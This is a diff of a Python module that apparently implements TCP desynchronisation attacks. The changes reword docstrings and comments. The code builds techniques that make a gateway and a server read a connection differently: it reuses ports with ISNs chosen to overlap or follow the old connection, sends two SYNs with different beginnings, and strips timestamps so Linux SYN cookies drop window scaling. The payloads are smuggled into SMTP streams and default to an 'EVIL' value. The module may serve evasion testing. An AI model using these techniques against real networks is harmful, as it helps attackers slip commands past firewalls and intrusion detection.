@@ -1,8 +1,8 @@
-"""Ports used again, and beginnings that gateway and server take for different ones.
+"""Reused ports, and connection beginnings that gateway and server see differently.
 
-Who has to tell an old connection from a new one by its numbers can be given numbers that fit both
-(RFC 9293 3.4.1 and 3.6.1, RFC 6191; RFC 5961 4; Linux' SYN cookies keep window scaling and
-SACK in the timestamp, so an ACK without one loses them, net/ipv4/syncookies.c).
+A gateway that distinguishes an old connection from a new one by sequence numbers can be given numbers that fit both
+(RFC 9293 3.4.1 and 3.6.1, RFC 6191; RFC 5961 4; Linux' SYN cookies keep window scaling and SACK in the timestamp, so an
+ACK without one loses them, net/ipv4/syncookies.c).
 """
 
 from __future__ import annotations
@@ -24,7 +24,7 @@ SCALE, SACK = ("WScale", 7), ("SAckOK", b"")
 
 
 def closed(attack: Attack, *, ours: bool, theirs: bool) -> RawTcp:
-    """A session ended by FINs: by both sides, or by one."""
+    """A session ended by FINs: of both sides, or of one."""
     connection = attack.session()
     if theirs:
         connection.say(b"QUIT\r\n")
@@ -47,7 +47,7 @@ def both(attack: Attack) -> RawTcp:
 
 
 def server_alone(attack: Attack) -> RawTcp:
-    """The server in FIN-WAIT-2, which a SYN does not disturb, a RST ends."""
+    """The server in FIN-WAIT-2, which a SYN does not disturb and a RST ends."""
     return closed(attack, ours=False, theirs=True)
 
 
@@ -58,7 +58,7 @@ def server_alone_reset(attack: Attack) -> RawTcp:
 
 
 def client_first(attack: Attack) -> RawTcp:
-    """Ended in the midst of text by the client's FIN; the server has nothing to wait for."""
+    """A session ended in the middle of text by the client's FIN; the server waits for nothing."""
     connection = attack.text()
     connection.stray(flags=FIN | ACK)
     connection.wait(lambda: connection.peer_closed, 1.0)
@@ -67,7 +67,9 @@ def client_first(attack: Attack) -> RawTcp:
 
 
 def port_again(begin: Callable[[Attack], RawTcp], isn: Callable[[RawTcp], int]) -> Callable[[Attack], None]:
-    """A technique: the port again with an ISN chosen by the old connection; over the old places, then the command."""
+    """A technique: the same port again with an ISN derived from the old connection; data over the old places, then the
+    command.
+    """
 
     def run(attack: Attack) -> None:
         attack.press()
@@ -86,7 +88,7 @@ def same(old: RawTcp) -> int:
 
 
 def behind(old: RawTcp) -> int:
-    """The new connection's first octet stands where the old one's next would."""
+    """An ISN with which the new connection's first byte follows the old connection's last."""
     return old.isn + old.here
 
 
@@ -95,7 +97,7 @@ def just_behind(old: RawTcp) -> int:
 
 
 def half_way(old: RawTcp) -> int:
-    """The new connection's first octets fall on the old one's."""
+    """An ISN with which the new connection's first bytes overlap the old connection's."""
     return old.isn + old.here // 2
 
 
@@ -161,7 +163,7 @@ def port_two_flows(attack: Attack) -> None:
         speak_again(attack, attack.again(old, isn), 0, old.here)
 
 
-# Beginnings.
+# Section: two SYNs with different beginnings for one pair of ports.
 
 
 def two_syns(
@@ -172,7 +174,7 @@ def two_syns(
     complete: int = 1,
     payload: bytes = EVIL,
 ) -> Callable[[Attack], None]:
-    """A technique: two SYNs before any answer is taken, and the one or the other handshake finished."""
+    """A technique: two SYNs before any answer is accepted, then one of the two handshakes is completed."""
 
     def run(attack: Attack) -> None:
         attack.press()
@@ -190,7 +192,8 @@ def two_syns(
             return
         chosen.put(flags=ACK)
         attack.wait(0.05)
-        # Some octets before and over the beginning, which one of both reads and the other does not.
+        # A few bytes before and across the stream's beginning: a receiver that uses one SYN's sequence number reads
+        # them, with the other's it does not.
         chosen.stray(b"NOOP ", -5)
         attack.wait(0.01)
         chosen.put(payload)
@@ -273,7 +276,7 @@ def ack_signed_other(attack: Attack) -> None:
 
 
 def without_timestamps(attack: Attack, *, scale: int) -> RawTcp:
-    """A cookie handshake with timestamps and scaling, its ACK without: Linux forgets both."""
+    """A SYN cookie handshake with timestamps and scaling, but an ACK without: Linux then forgets both."""
     attack.press()
     connection = attack.tcp(timestamps=True)
     connection.put_syn(options=[("WScale", scale), SACK])
@@ -304,7 +307,7 @@ def window_unscaled(attack: Attack) -> None:
     for line in (b"HELO x\r\n", b"MAIL FROM:<a@b.c>\r\n", b"RCPT TO:<d@e.f>\r\n", b"DATA\r\n", b"Subject: x\r\n\r\n"):
         old.say(line, 0.3)
     for number in range(100):
-        old.put(b"x" * 1200)  # no line, which the next connection's server would answer
+        old.put(b"x" * 1200)  # Data without a line end: the server must not answer it on the next connection.
         if number % 8 == 7:
             attack.wait(0.002)
     attack.wait(0.05)
